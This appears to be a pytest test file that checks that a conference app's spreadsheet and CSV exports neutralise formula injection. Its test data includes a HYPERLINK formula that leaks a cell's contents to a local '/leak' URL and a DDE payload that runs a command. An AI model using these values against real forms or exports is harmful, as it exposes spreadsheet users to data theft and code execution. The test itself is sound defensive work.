"""Every spreadsheet the application produces keeps text as text.

The demo summit, plus text that a spreadsheet would run as a formula, planted through the public
forms and the services people use: a registration named =HYPERLINK(...) who booked a booth
meeting, interest in a roadshow result, a judge's comment. Then every export route (found in the
URL map, so a new one must be added here) and every export command is read back with openpyxl
(no cell holds a formula) or as CSV (no field starts like one).
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import re

import openpyxl
import pytest
from sqlalchemy import select

from tests.fixtures.registration import resident_id

LINK = '=HYPERLINK("http://127.0.0.1:5999/leak?"&A1,"Open CV")'
SUM = "=2+3"
CMD = "=cmd|' /C calc'!A0"


def formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def formula_fields(data: bytes) -> list[str]:
    """CSV fields a spreadsheet would evaluate: starting with = + - @ CR, or a tab not followed by
    a plain number (the writer's way of keeping identity and phone numbers as text)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [field for row in rows for field in row
            if field[:1] in ("=", "+", "-", "@", "\r") or (field[:1] == "\t" and not re.fullmatch(r"\+?\d+", field[1:]))]


@pytest.fixture
def planted(app, db, client):
    from summit.contest.models import Round
    from summit.core.demo import load_demo
    from summit.core.models import Summit
    from summit.matchmaking.models import RecruitmentSession
    from summit.programme.models import ResearchResult
    from summit.programme import roadshow
    from summit.registration import organizer
    from summit.registration.models import Category, Registration

    for _line in load_demo():
        pass
    summit = Summit.current()
    talent = db.session.scalar(select(Category).where(Category.summit_id == summit.id, Category.code == "talent"))
    # 1. An attendee registers on the public form with formulas for a name, organisation and title.
    form = {"name": LINK, "gender": "male", "category_id": str(talent.id), "organisation": SUM, "title": CMD,
            "phone": "13912345678", "email": "formula@example.com", "id_type": "resident_id",
            "id_number": resident_id(1988, 16), "birth_year": "1988", "degree": "phd", "overseas": "yes",
            "fields": [], "programme_parts": ["opening", "recruitment"], "dietary": "@SUM(1+1)", "consent": "y"}
    response = client.post("/register", data=form)
    assert response.status_code == 303, re.findall(r"(?:invalid-feedback|alert)[^>]*>([^<]+)", response.get_data(as_text=True))
    db.session.rollback()
    reg = db.session.scalar(select(Registration).where(Registration.email == "formula@example.com"))
    assert reg.name == LINK
    organizer.decide(summit, [reg.id], "approve")
    # Her private link (the mail that carries it is another test's concern).
    token = "formula-attendee-token-" + "x" * 30
    reg.manage_token_hash = hashlib.sha256(token.encode()).hexdigest()
    db.session.commit()
    # 2. She books a free place on her sessions page, at the first session that offers one.
    booked = None
    for session in db.session.scalars(select(RecruitmentSession).where(RecruitmentSession.summit_id == summit.id,
                                                                       RecruitmentSession.published_at.is_not(None))):
        page = client.get(f"/me/{token}/sessions/{session.id}").get_data(as_text=True)
        place = re.search(r'<option value="(\d+:\d+)"', page)
        if place:
            response = client.post(f"/me/{token}/sessions/{session.id}/book", data={"place": place.group(1)})
            assert response.status_code == 303, response.get_data(as_text=True)[:1000]
            booked = session.id
            break
    assert booked, "no session offered a free place"
    # 3. Interest in a roadshow result from the hall, anonymously.
    result = next(r for r in db.session.scalars(select(ResearchResult)) if roadshow.is_public(r))
    response = client.post(f"/programme/roadshow/{result.id}/interest",
                           data={"name": LINK, "organisation": "=1+1", "contact": "+8613900000000",
                                 "kind": "enterprise", "cooperation": "", "note": CMD})
    assert response.status_code == 200, re.findall(r"(?:invalid-feedback|alert)[^>]*>([^<]+)", response.get_data(as_text=True))
    # 4. A judge's comment on a scored entry (the scoring API of the tablets).
    judge = app.test_client()
    assert judge.post("/login", data={"email": "judge1@demo.qianshan.cn", "password": "qianshan2024"}).status_code == 302
    comment_sent = False
    for round_ in db.session.scalars(select(Round).order_by(Round.id)):
        data = judge.get(f"/contest/judge/rounds/{round_.id}/data.json")
        if data.status_code != 200:
            continue
        body = data.get_json()
        for entry in body["entries"]:
            if entry["locked"]:
                continue
            values = {c["key"]: c["max"] for c in body["criteria"]}
            sent = judge.post("/contest/judge/scores", content_type="application/json",
                              data=json.dumps({"round": round_.id, "entry": entry["id"], "kind": "submit",
                                               "values": values, "comment": LINK, "client_id": "formula-1"}))
            assert sent.status_code == 201, sent.get_data(as_text=True)
            comment_sent = True
            break
        if comment_sent:
            break
    assert comment_sent, "the demo judge had nothing left to score"
    db.session.rollback()
    return {"summit": summit, "session_id": booked, "token": token}


def _organizer(app):
    client = app.test_client()
    assert client.post("/login", data={"email": "organizer@demo.qianshan.cn", "password": "qianshan2024"}).status_code == 302
    return client


def _exports(app, planted):
    """(label, bytes, kind, planted texts that must be in it) for every export route."""
    org = _organizer(app)
    summit = planted["summit"]
    all_columns = ["id", "name", "organisation", "title", "phone", "email", "id_number", "dietary"]
    out = {}

    def get(url):
        response = org.get(url)
        assert response.status_code == 200, (url, response.status_code)
        return response.data

    out["registration.admin_export"] = [
        ("registrations.xlsx", org.post("/organizer/registrations/export",
                                        data={"columns": all_columns, "format": "xlsx"}).data, "xlsx", {LINK, SUM, CMD}),
        ("registrations.csv", org.post("/organizer/registrations/export",
                                       data={"columns": all_columns, "format": "csv"}).data, "csv", set())]
    out["registration.admin_import_template"] = [
        ("template.xlsx", get("/organizer/registrations/import/template.xlsx"), "xlsx", set())]
    out["programme.export_xlsx"] = [("roadshow.xlsx", get("/programme/admin/export.xlsx"), "xlsx", {LINK, CMD, "=1+1"})]
    out["matchmaking.org_export"] = [
        (f"session-{planted['session_id']}.xlsx", get(f"/matchmaking/sessions/{planted['session_id']}/export.xlsx"),
         "xlsx", {LINK, SUM, CMD})]
    out["contest.admin_export"] = [("scores.xlsx", get("/contest/admin/scores.xlsx"), "xlsx", {LINK})]
    out["dashboard.export_xlsx"] = [("dashboard.xlsx", get(f"/dashboard/{summit.id}/export.xlsx"), "xlsx", set())]
    return out


def test_no_export_writes_a_formula(app, db, planted, tmp_path, database_url):
    if not database_url.startswith("sqlite"):
        pytest.skip("what a spreadsheet holds does not depend on the database; the walk runs once, on SQLite")
    exports = _exports(app, planted)
    # Every route that produces a spreadsheet is walked here.
    spreadsheet_routes = {r.endpoint for r in app.url_map.iter_rules()
                          if r.rule.endswith((".xlsx", ".csv")) or "export" in r.endpoint}
    assert spreadsheet_routes <= set(exports), f"export routes this test does not walk: {spreadsheet_routes - set(exports)}"
    # And every command that writes one.
    runner = app.test_cli_runner()
    for name, args in (("template.xlsx", ["import-registrations", "--template"]),
                       ("cli.xlsx", ["export-registrations", "--columns", "name,organisation,title,phone", "-o"]),
                       ("cli.csv", ["export-registrations", "--columns", "name,organisation,title,phone", "-o"])):
        result = runner.invoke(args=args + [str(tmp_path / name)])
        assert result.exit_code == 0, result.output
        data = (tmp_path / name).read_bytes()
        kind = name.rsplit(".", 1)[1]
        exports.setdefault("cli", []).append((f"summit {args[0]} {name}", data, kind,
                                              {LINK, SUM, CMD} if name == "cli.xlsx" else set()))
    problems, unreached = [], []
    for endpoint, files in exports.items():
        for label, data, kind, must_hold in files:
            if kind == "xlsx":
                problems += [f"{label}: {cell}" for cell in formula_cells(data)]
                unreached += [f"{label}: {text!r}" for text in must_hold - texts(data)]
            else:
                problems += [f"{label}: {field!r}" for field in formula_fields(data)]
    assert not problems, "formulas in exports:\n" + "\n".join(problems)
    # The planted text is there, unchanged: the walk reached it and the writer did not mangle it.
    assert not unreached, "planted text missing:\n" + "\n".join(unreached)
    # The CSV exports neutralise what they hold: the planted name is there, as text.
    csv_rows = list(csv.reader(io.StringIO(exports["registration.admin_export"][1][1].decode("utf-8-sig"))))
    assert ["'" + LINK, "'" + SUM, "'" + CMD] == next(r[1:4] for r in csv_rows if LINK in r[1])


def test_only_the_core_module_writes_or_reads_spreadsheets():
    """One writer and one reader: no feature builds a workbook or a CSV writer of its own."""
    from pathlib import Path

    import summit

    package = Path(summit.__file__).parent
    pattern = re.compile(r"\b(Workbook\(|load_workbook\(|csv\.writer\(|csv\.reader\(|DictWriter\()")
    strays = [f"{path.relative_to(package)}:{n}" for path in package.rglob("*.py")
              if path.name != "spreadsheet.py"
              for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
              if pattern.search(line)]
    assert not strays, strays
